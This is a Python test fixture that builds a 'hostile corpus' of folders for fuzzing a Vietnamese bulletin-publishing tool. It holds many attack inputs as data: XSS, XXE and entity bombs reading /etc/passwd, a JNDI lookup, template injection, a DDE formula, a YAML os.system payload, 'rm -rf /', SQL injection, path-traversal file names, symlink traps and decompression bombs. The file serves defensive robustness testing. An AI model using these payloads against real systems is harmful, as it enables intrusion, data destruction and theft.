"""The hostile corpus: folders as an office must fear to get them, each with a name; hostile_run.py watches them."""

from __future__ import annotations

import gzip
import io
import os
import random
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

from hostile_pictures import REFUSED, SHOWN

Files = Mapping[str, bytes]
Make = Callable[[Path], object]

GOOD = "KHU PHỐ 5 KHÁNH THÀNH ĐƯỜNG HOA\n\nSáng 2/12, bà con khu phố 5 khánh thành đường hoa.\n\nMinh Thư\n".encode()
# What a link, a name or a setting may try to reach; it lies beside the folder that is given.
TRAP = "cam-doc"


def written(files: Mapping[str, bytes | str]) -> Make:
    def make(folder: Path) -> None:
        for name, content in files.items():
            data = content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content
            (folder / name).write_bytes(data)

    return make


def article(text: str | bytes) -> Make:
    """One article with a good beginning and end, and this in between."""
    data = text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text
    return written({"bai1.txt": "TÍT CỦA BÀI\n\nĐoạn mở đầu ở đây. ".encode() + data + "\n\nĐoạn sau cùng.\n".encode()})


def whole(data: str | bytes) -> Make:
    """One file that is nothing but this, beside a good one."""
    return written({"bai1.txt": GOOD, "bai2.txt": data})


def front(lines: str) -> Make:
    return written({"bai1.txt": f"---\n{lines}\n---\n\nĐoạn mở đầu ở đây, có dấu chấm.\n"})


def settings(text: str | bytes) -> Make:
    return written({"bai1.txt": GOOD, "bulletin.toml": text})


def theme(text: str | bytes, **files: bytes) -> Make:
    said: dict[str, bytes | str] = {"bai1.txt": GOOD, "bulletin.toml": 'theme = "rieng.toml"\n', "rieng.toml": text}
    return written({**said, **{name.replace("_", "."): data for name, data in files.items()}})


def sidecar(text: str | bytes) -> Make:
    return written({"bai1.txt": GOOD, "bai1.toml": text})


def picture(name: str, data: bytes) -> Make:
    suffix = Path(name).suffix
    return written({"bai1.txt": GOOD, f"bai1{suffix}": data})


def _texts() -> Iterator[tuple[str, Make]]:
    for code in (*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x85, 0x9F):
        yield f"control U+{code:04X}", article(f"chữ{chr(code)}liền")
    for code in (0xFFFE, 0xFFFF, 0xFDD0, 0x1FFFE, 0xE000, 0xF8FF, 0x10FFFD, 0xFFF9, 0xFFFC, 0xFFFD):
        yield f"odd U+{code:04X}", article(f"chữ{chr(code)}liền")
    for code in (0x202E, 0x2066, 0x200F, 0x061C, 0x200B, 0x2060, 0xFEFF, 0x00AD, 0x180E, 0x2028, 0x2029, 0x3164):
        yield f"unseen U+{code:04X}", article(f"anh{chr(code)}gpj.exe")
    yield "half of a letter", article("chữ\ud800liền")
    yield "bidi without an end", article("\u202e\u2067\u202b" * 500 + "exe.doc")
    yield "zalgo", article("a" + "\u0301\u0323\u0309" * 3000)
    yield "marks before any letter", article("\u0301\u0301 chữ")
    yield "decomposed", article("Ủy ban nhân dân phường".replace("Ủ", "U\u0309").replace("ư", "u\u031b"))
    yield "emoji of a family", article("vui 👨‍👩‍👧‍👦🏳️‍🌈 quá")
    yield "plane 2 and tags", article("𠮷 \U000e0041\U000e0042 xong")
    for name, words in {"Hebrew": "שלום", "Arabic": "السلام عليكم", "Thai": "ภาษาไทย", "Chinese": "胡志明市"}.items():
        yield f"written in {name}", article(words)
    yield "a word of 100,000 letters", article("W" * 100_000)
    yield "a number of 50,000 digits", article("9" * 50_000)
    yield "marks for a line that never ends", article("–" * 20_000)
    yield "3,000 paragraphs of one letter", article("\n\na" * 3000)
    yield "a line of 20,000 words", article("từ " * 20_000)
    yield "a headline of 4,000 letters", written({"bai1.txt": "CHỮ HOA " * 500 + "\n\nĐoạn văn.\n"})
    yield "nested lists", article("\n" + "\n".join("  " * depth + f"- mục {depth}" for depth in range(150)))
    yield "60 columns", article("\n" + "\n".join("\t".join(f"ô{place}" for place in range(60)) for _ in range(3)))
    yield "a table of bars", article("\n" + "|".join(["ô"] * 300) + "\n" + "|---" * 300 + "\n" + "|ô" * 300)
    yield "10,000 blank lines", article("\n" * 10_000 + "hết")
    for name, text in MARKUP.items():
        yield f"markup: {name}", article(text)


MARKUP = {
    "script": "<script>alert(1)</script>",
    "end of a run": "</w:t></w:r></w:p><w:altChunk/>",
    "CDATA": "]]><![CDATA[x]]>",
    "comment": "<!-- --> <!--#exec cmd='id'-->",
    "processing": "<?xml version='1.0'?><?php system('id') ?>",
    "entity bomb": '<!DOCTYPE b [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><b>&b;</b>',
    "external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "XInclude": "<xi:include href='file:///etc/passwd' parse='text'/>",
    "entities of nothing": "&#0; &#x0; &#xFFFF; &#xD800; &#x110000; &#99999999999;",
    "entities of markup": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;",
    "unknown entities": "&nosuch; & &&& &;",
    "a picture of reportlab": "<img src='/etc/passwd' width='1' height='1'/>",
    "a font of reportlab": "<font size='1e9' color='__import__'>to</font></para>",
    "code of reportlab": "[[[getattr(pow,Word('__globals__'))]]]",
    "a frame": "<iframe src='http://example.org'></iframe><object data='x'/>",
    "an event": "<svg onload=alert(1)><math href='javascript:alert(1)'>",
    "a style": "<style>@import url(http://example.org/x.css)</style>",
    "a field of Word": "{ INCLUDETEXT C:\\\\secret } { DDEAUTO c:\\\\cmd.exe }",
    "a formula": "=cmd|' /C calc'!A0 @SUM(1+1) +1 -1",
    "TeX": "\\input{/etc/passwd} \\write18{id} \\def\\a{\\a\\a}\\a",
    "Typst": '#read("/etc/passwd") #let f() = f()',
    "a template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% include 'x' %}",
    "a look-up": "${jndi:ldap://example.org/a}",
    "formats": "%s%s%n%x {0} {self.__class__} {!r}",
    "a shell": "$(id) `id` ; rm -rf / | cat /etc/passwd & \n| nc",
    "SQL": "'; DROP TABLE bai; --",
    "a link in Markdown": "[bấm](javascript:alert(1)) [x](data:text/html;base64,PHNjcmlwdD4=)",
    "a picture in Markdown": "![ảnh](http://example.org/x.png) ![ảnh](file:///etc/passwd)",
    "addresses": "file:///etc/passwd http://169.254.169.254/latest smb://host/x \\\\host\\share\\x",
    "addresses that spoof": "http://phường.vn@example.org/ https://еxample.org javascript:alert(1)//http://a.vn",
    "PDF": "(x) Tj ET /JS (app.alert(1)) /OpenAction << /S /Launch >> %%EOF",
    "PostScript": "%!PS (x) run (/etc/passwd) (r) file",
    "headers": "Content-Type: text/html\r\n\r\n<b>x</b>",
    "terminal": "\x1b]0;title\x07\x1b[2J\x1b[31mđỏ",
    "a null in UTF-8": "a%00b \\x00 \\u0000",
}


def _binaries() -> Iterator[tuple[str, Make]]:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"0" * 10_000_000)
    binaries = {
        "a Word file": buffer.getvalue(),
        "an old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
        "a PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(500),
        "a photo": SHOWN["jpeg.jpg"](),
        "gzip of a gigabyte": gzip.compress(bytes(20_000_000)),
        "RTF": b"{\\rtf1\\ansi {\\field{\\*\\fldinst INCLUDEPICTURE x}}}",
        "a program": b"\x7fELF\x02\x01\x01" + bytes(500),
        "a program of Windows": b"MZ\x90\x00" + bytes(500),
        "a data base": b"SQLite format 3\x00" + bytes(500),
        "music": b"ID3\x04\x00" + bytes(500),
        "nothing but zeros": bytes(100_000),
        "nothing but FF": b"\xff" * 100_000,
        "bytes by chance": random.Random(5).randbytes(50_000),
        "nothing": b"",
        "one byte": b"\xe1",
        "blanks": b" \t\r\n" * 1000,
        "a bad byte": "Phường họp mặt \xff".encode("latin-1", "replace") + b"\xff\xfe\x80 xong.",
        "letters written too long": b"TIN\n\n\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf xong.",
        "surrogates in bytes": b"TIN\n\n\xed\xa0\x80\xed\xb0\x80 xong.",
        "beyond Unicode": b"TIN\n\n\xf4\x90\x80\x80 \xf8\x88\x80\x80\x80 xong.",
        "UTF-16": "TIN\n\nPhường họp mặt đầu năm.".encode("utf-16"),
        "UTF-16 without its mark": "TIN\n\nPhường họp mặt đầu năm.".encode("utf-16-le"),
        "half of UTF-16": "TIN\n\nPhường họp mặt.".encode("utf-16")[:-1],
        "UTF-32": "TIN\n\nPhường họp mặt.".encode("utf-32"),
        "UTF-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "two marks": b"\xef\xbb\xbf\xef\xbb\xbfTIN\n\nTin.",
        "mojibake twice": "Phường họp mặt".encode().decode("cp1252", "replace").encode(),
        "ISO 2022": b"TIN\n\n\x1b$B$3$s\x1b(B xong.",
        "EBCDIC": "TIN PHUONG".encode("cp037") * 20,
        "a whole HTML page": b"<html><head><meta charset=x><script src=//a></script></head><body>x</body></html>",
        "old Mac line ends": "TÍT\r\rMột đoạn.\r\rHai đoạn.".encode(),
        "mixed line ends": b"A\r\nB\rC\nD\n\rE\x0bF\x0cG",
    }
    yield from ((f"binary: {name}", whole(data)) for name, data in binaries.items())


def _fronts() -> Iterator[tuple[str, Make]]:
    fields = {
        "no such field": "Virus: có",
        "markup": "Tiêu đề: <script>alert(1)</script></w:t>",
        "controls": "Tiêu đề: a\x00b\x1bc",
        "an encoding of nobody": "Bảng mã: rot13",
        "an encoding that is a path": "Bảng mã: ../../etc/passwd",
        "an encoding that is another": "Bảng mã: utf-16",
        "an encoding that runs code": "Bảng mã: unicode_escape",
        "a date of nowhere": "Ngày: 99/99/9999",
        "a date of 400 digits": "Ngày: " + "9" * 400,
        "3,000 authors": "Tác giả: " + "; ".join(["A B"] * 3000),
        "4,000 fields": "\n".join(f"Mục{place}: x" for place in range(4000)),
        "the same field twice": "Tiêu đề: một\nTiêu đề: hai",
        "a field of 50,000 letters": "Sa-pô: " + "a" * 50_000,
        "fields without a value": "Tiêu đề:\nTác giả:\nNgày:",
        "YAML": "!!python/object/apply:os.system ['id']\n&a [*a,*a]",
        "a picture elsewhere": "Ảnh: ../../etc/passwd",
        "fences": "---\n---\n---",
        "a name of marks": "Ti\u0301\u0301\u0301\u0301êu đề: x",
    }
    yield from ((f"front matter: {name}", front(lines)) for name, lines in fields.items())
    yield "front matter: no end", whole("---\nTiêu đề: x\n" + "a: b\n" * 5000)
    yield "front matter: nothing else", whole("---\nTiêu đề: x\n---\n")


def _settings() -> Iterator[tuple[str, Make]]:
    texts: dict[str, str | bytes] = {
        "nothing": "",
        "no UTF-8": b"theme = '\xff'",
        "a mark": b"\xef\xbb\xbflanguage = 'vi'",
        "zeros": bytes(100),
        "a picture": SHOWN["png.png"](),
        "half a line": "[masthead",
        "a key twice": "language = 'vi'\nlanguage = 'en'",
        "lists without end": "x = " + "[" * 20_000,
        "tables without end": "x = " + "{a=" * 20_000,
        "a key without end": ".".join(["a"] * 20_000) + " = 1",
        "a number without end": "x = " + "9" * 20_000,
        "20,000 keys": "\n".join(f"k{place} = 1" for place in range(20_000)),
        "a key of 100,000 letters": "k" * 100_000 + " = 1",
        "more than a megabyte": "#" * 1_200_000,
        "a wrong kind": "theme = 7\nlanguage = []\nsections = 1\nmasthead = 'x'",
        "dates of nowhere": "[masthead]\ndate = 2023-02-30",
        "the year 1": "[masthead]\ndate = 0001-01-01",
        "the year 9999": "[masthead]\ndate = 9999-12-31",
        "a language of markup": "language = '\"><script>'",
        "a language of 1,000 letters": f"language = 'vi-{'a' * 1000}'",
        "infinity": "[plugins]\ntimeout = inf",
        "no number": "[plugins]\ntimeout = nan",
        "less than nothing": "[plugins]\ntimeout = -1\nmemory = 0",
        "a theme elsewhere": 'theme = "../../../../../../etc/passwd"',
        "a theme in a trap": f'theme = "../{TRAP}/bi-mat.toml"',
        "a theme on the net": 'theme = "http://example.org/x.toml"',
        "a theme that is a folder": 'theme = ".toml"',
        "a theme of zeros": 'theme = "a\\u0000b.toml"',
        "a theme in a device": 'theme = "/dev/stdin.toml"',
        "articles elsewhere": '[[sections]]\narticles = ["../*", "/etc/*", "**/*"]',
        "articles by a bad pattern": '[[sections]]\narticles = ["[", "[!", "***"]',
        "articles by 1,000 stars": f'[[sections]]\narticles = ["{"*a" * 1000}"]',
        "a name that climbs": 'file_name = "../../../tmp/evil"',
        "a name from the root": 'file_name = "/etc/cron.d/evil"',
        "a name of Windows": 'file_name = "CON"',
        "a name of a drive": 'file_name = "C:\\\\evil|<>?*"',
        "a name of dots": 'file_name = "../.."',
        "a name of zeros": 'file_name = "a\\u0000b"',
        "a name that turns": 'file_name = "ban\\u202Etin"',
        "a name of 5,000 letters": f'file_name = "{"a" * 5000}"',
        "a masthead of markup": "[masthead]\nname = '</w:t><script>'\npublisher = '&lt;'\nnumber = '../..'",
        "a masthead of controls": '[masthead]\nname = "a\\u0000b\\u0007c"\nnumber = "\\u0001"',
        "a masthead of 20,000 letters": f"[masthead]\nname = '{'Phường ' * 2800}'",
        "an imprint of markup": "[imprint]\nresponsible = '<img src=x onerror=alert(1)>'\nlicence = ']]>'",
        "a transform of nobody": 'transforms = ["os.system"]',
        "a format of nobody": "[formats.exe]\nx = 1",
        "an option of nobody": "[formats.pdf]\nowner = 'x'",
        "plugins by odd names": '[plugins]\nallow = ["../x", ""]\nblock = ["\\u0000"]\ntrust = ["*"]',
        "a preference for nobody": '[plugins]\nprefer = { pdf = "wardpress-evil" }',
        "photos without limits": "[photos]\nmegabytes = 999999999\nmegapixels = -1",
    }
    yield from ((f"settings: {name}", settings(text)) for name, text in texts.items())


def _themes() -> Iterator[tuple[str, Make]]:
    fonts = '[[fonts]]\nfamily = "Chữ"\nfile = "{}"\n'
    head = 'extends = "a5"\nname = "rieng"\n[families]\nserif = "Chữ"\n'
    texts = {
        "extends itself": 'extends = "rieng"',
        "extends a path": 'extends = "../../x"',
        "a colour of code": 'extends = "a5"\n[colours]\naccent = "expression(alert(1))"',
        "a family of markup": "extends = 'a5'\n[families]\nserif = '\"};@import url(//a)'",
        "a page of nothing": 'extends = "a5"\n[page]\nwidth = 0\nheight = 0',
        "a page without end": 'extends = "a5"\n[page]\nwidth = 1e308\nheight = inf',
        "margins beyond the page": 'extends = "a5"\n[page]\ninner = 900\nouter = -900',
        "1,000 columns": 'extends = "a5"\n[page]\ncolumns = 1000',
        "half of TOML": "extends = ",
        "nested without end": "x = " + "[" * 9000,
        "a font elsewhere": head + fonts.format("../../../../../../etc/passwd"),
        "a font in a device": head + fonts.format("/dev/zero"),
        "a font that is not there": head + fonts.format("khong-co.ttf"),
        "a font that is a folder": head + fonts.format("."),
        "a font of zeros": head + fonts.format("a\\u0000b.ttf"),
        "a font on the net": head + fonts.format("http://example.org/x.ttf"),
        "a font twice": head + fonts.format("chu.ttf") * 2,
    }
    yield from ((f"theme: {name}", theme(text)) for name, text in texts.items())
    font = b"\0\1\0\0\0\4" + random.Random(3).randbytes(3000)
    data = {
        "nothing": b"", "text": b"not a font", "a picture": SHOWN["png.png"](), "bytes by chance": font,
        "a collection": b"ttcf" + bytes(500), "WOFF": b"wOFF" + bytes(500), "more than 32 MB": bytes(33 << 20),
    }  # fmt: skip
    yield from (
        (f"theme: a font of {name}", theme(head + fonts.format("chu.ttf"), chu_ttf=d)) for name, d in data.items()
    )


def _sidecars() -> Iterator[tuple[str, Make]]:
    texts: dict[str, str | bytes] = {
        "nothing": "",
        "no UTF-8": b"headline = '\xff'",
        "no such key": "x = 1",
        "wrong kinds": "headline = 1\nauthors = 'a'\nphotos = {}",
        "lists without end": "authors = " + "[" * 9000,
        "an encoding of nobody": 'encoding = "idna"',
        "an encoding of code": 'encoding = "raw_unicode_escape"',
        "a picture elsewhere": '[[photos]]\nfile = "../../../etc/passwd"',
        "a picture from the root": '[[photos]]\nfile = "/etc/passwd"',
        "a picture in a trap": f'[[photos]]\nfile = "../{TRAP}/bi-mat.png"',
        "a picture on the net": '[[photos]]\nfile = "http://example.org/x.png"',
        "a picture in its address": '[[photos]]\nfile = "data:image/png;base64,AAAA"',
        "a picture of zeros": '[[photos]]\nfile = "a\\u0000b.png"',
        "a headline of markup": "headline = '</title><script>'\nauthors = ['<b>', '\"><i>']",
        "a headline of controls": 'headline = "a\\u0000b\\u001bc"\nlead = "\\uFFFF"',
    }
    yield from ((f"sidecar: {name}", sidecar(text)) for name, text in texts.items())


def _names() -> Iterator[tuple[str, Make]]:
    names = (
        "CON.txt", "a:b?.txt", "-rf.txt", "--help.txt", "a\nb.txt", "a\tb.txt", "a\x1b[2Jb.txt", "<script>.txt",
        "$(id).txt", "'\"`.txt", "%00%n.txt", "\u202etxt.exe.txt", "\U0001f468\u200d\U0001f469.txt",
        "a" * 240 + ".txt", "Bài số 1.TXT", "....txt", "a b .txt", "..\u2215x.txt", "&amp;.txt", "{0}.txt", "a\\b.txt",
    )  # fmt: skip
    for name in names:
        yield f"name: {name[:30]!a}", written({name: GOOD})
    yield "name: bytes that are no text", lambda folder: (folder / os.fsdecode(b"b\xe0i\xff.txt")).write_bytes(GOOD)
    for name in ("bai1'\"><x>.png", "bai1\n.png", "bai1-\u202e.png"):
        yield f"name of a picture: {name!a}", written({"bai1.txt": GOOD, name: SHOWN["png.png"]()})


def _places() -> Iterator[tuple[str, Make]]:
    trap = Path("..") / TRAP

    def linked(name: str, to: Path | str) -> Make:
        def make(folder: Path) -> None:
            (folder / "bai1.txt").write_bytes(GOOD)
            (folder / name).symlink_to(to)

        return make

    def piped(name: str) -> Make:
        def make(folder: Path) -> None:
            (folder / "bai1.txt").write_bytes(GOOD)
            os.mkfifo(folder / name)

        return make

    for name in ("bai2.txt", "bai1.toml", "bulletin.toml", "bai1.png"):
        secret = "bi-mat" + Path(name).suffix
        yield f"place: {name} is a link to a secret", linked(name, trap / secret)
        yield f"place: {name} is a link to nothing", linked(name, "khong-co")
        yield f"place: {name} is a link to itself", linked(name, name)
        yield f"place: {name} is a link to a device", linked(name, "/dev/zero")
        yield f"place: {name} is a pipe", piped(name)
        yield (
            f"place: {name} is a folder",
            lambda folder, name=name: (  # type: ignore[misc]
                (folder / "bai1.txt").write_bytes(GOOD),
                (folder / name).mkdir(),
            ),
        )
    yield "place: a link to the folder above", linked("tren", "..")
    yield "place: a link to the root", linked("goc", "/")


def _pictures() -> Iterator[tuple[str, Make]]:
    for name, make in SHOWN.items():
        yield f"picture: {name}", lambda folder, name=name, make=make: picture(name, make())(folder)  # type: ignore[misc]
    for name, (_, make) in REFUSED.items():
        yield f"picture: {name}", lambda folder, name=name, make=make: picture(name, make())(folder)  # type: ignore[misc]


CASES: dict[str, Make] = dict(
    case
    for group in (_texts, _binaries, _fronts, _settings, _themes, _sidecars, _names, _places, _pictures)
    for case in group()
)
